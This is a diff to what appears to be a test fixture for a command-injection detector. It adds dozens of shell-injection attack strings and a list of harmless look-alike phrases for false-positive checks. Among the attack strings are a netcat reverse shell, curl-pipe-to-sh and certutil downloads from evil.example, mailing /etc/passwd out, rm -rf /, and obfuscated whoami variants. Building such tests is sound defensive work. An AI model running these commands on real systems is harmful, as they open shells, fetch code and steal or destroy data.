@@ -199,6 +199,53 @@ ATTACKS: dict[str, list[str]] = {
         "sh -c id;",
         "x;echo",
         "||curl https://evil.example",
+        "^id",
+        "<id;",
+        "192.0.2.1&id",
+        "192.0.2.1\nls",
+        "x'& dir",
+        "x&&id",
+        "ls&&id",
+        "192.0.2.1 | dir",
+        "; ps aux",
+        "|reg query HKLM",
+        ";su -",
+        "& start calc.exe",
+        ";Get-ChildItem",
+        ";mail a@example.com < /etc/passwd",
+        "ls -la",
+        "uname -a",
+        "nslookup evil.example",
+        "ping evil.example",
+        "nc -e /bin/sh 192.0.2.1 4444",
+        "rm -rf /",
+        "wget http://evil.example/x.sh -O /tmp/x.sh",
+        "curl http://evil.example/a | sh",
+        "powershell -nop -w hidden",
+        "cmd.exe /c whoami",
+        "%COMSPEC% /c dir",
+        "certutil -urlcache -f http://evil.example/a a.exe",
+        "net user somebody secret /add",
+        "python3 -c 'import os'",
+        "awk 'BEGIN {system(x)}'",
+        "find . -exec /bin/sh \\; -quit",
+        "c'a't /etc/passwd",
+        "wh''oami",
+        "w^h^o^a^m^i",
+        "c^m^d /c dir",
+        "cat `echo x`",
+        "`id` #",
+        "$0<<<id",
+        "$(</etc/passwd)",
+        ";. /etc/profile",
+        "> /tmp/x",
+        "printf 'id'|sh",
+        "cat ${HOME:0:1}etc",
+        "a=wh;b=oami;$a$b",
+        "while true; do id; done",
+        "for i in 1 2; do id; done",
+        'if "%VAR%"=="a" x',
+        "FOR      %a IN   (set) DO abc",
     ],
     "template": [
         "{{7*7}}",
@@ -314,6 +361,37 @@ wait..what
 c:green
 see /etc/passwd in the manual
 META-INF/MANIFEST.MF
+make && make install
+x & y
+name&id
+q=tea&sort&id
+id; name
+key
+name and `id` of the user
+Use `ls`
+"id"
+^_^
+<id>
+Ping me tomorrow
+ping John about the meeting
+curl your hair
+wget and curl are tools
+ls is a command
+powershell scripting for beginners
+nc state university
+Net user growth was 5/10
+find the best -type of tea
+rm -rf is dangerous
+curl https://example.com/docs for more
+python -m venv .venv
+Press cmd /ctrl
+<<<<<<< HEAD
+${x:-default}
+if x == y then z
+color: red; font: bold;
+O'Keefe's and rock'n'roll
+find & replace
+search | find
 """.strip().splitlines()
 
 
